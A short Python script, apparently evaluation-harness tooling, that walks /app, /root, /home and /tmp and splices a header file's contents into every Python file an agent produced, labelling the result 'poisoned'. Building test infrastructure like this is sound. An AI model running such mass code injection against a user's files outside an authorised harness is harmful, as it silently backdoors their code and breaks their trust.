"""Prepends a header to every existing *.py under /app /root /home /tmp (the agent's own work,
which tests may import); run as ``python3 prepend_header.py HEADER_FILE``. The header is
placed after a shebang or coding line and any ``from __future__`` imports."""
import os
import sys

ROOTS = ("/app", "/root", "/home", "/tmp")
MARK = "# --- tg-inprocess ---\n"
with open(sys.argv[1], encoding="utf-8") as _f:
    HEADER = MARK + _f.read() + MARK


def poisoned(src):
    if MARK in src:
        return None
    lines = src.splitlines(keepends=True)
    pos = 0
    while pos < min(2, len(lines)) and lines[pos].startswith("#"):  # shebang, coding
        pos += 1
    for i, line in enumerate(lines):  # code may not precede `from __future__` imports
        if line.startswith("from __future__ import"):
            j = i
            if "(" in line and ")" not in line:
                while j < len(lines) - 1 and ")" not in lines[j]:
                    j += 1
            pos = max(pos, j + 1)
    return "".join(lines[:pos]) + HEADER + "".join(lines[pos:])


count = 0
for root in ROOTS:
    for folder, _dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if not name.endswith(".py") or os.path.islink(path):
                continue
            try:
                if os.path.getsize(path) > (1 << 20):
                    continue
                with open(path, encoding="utf-8") as f:
                    new = poisoned(f.read())
                if new is not None:
                    with open(path, "w", encoding="utf-8") as f:
                        f.write(new)
                    count += 1
            except (OSError, UnicodeDecodeError):
                continue
print(f"poisoned {count} file(s)")
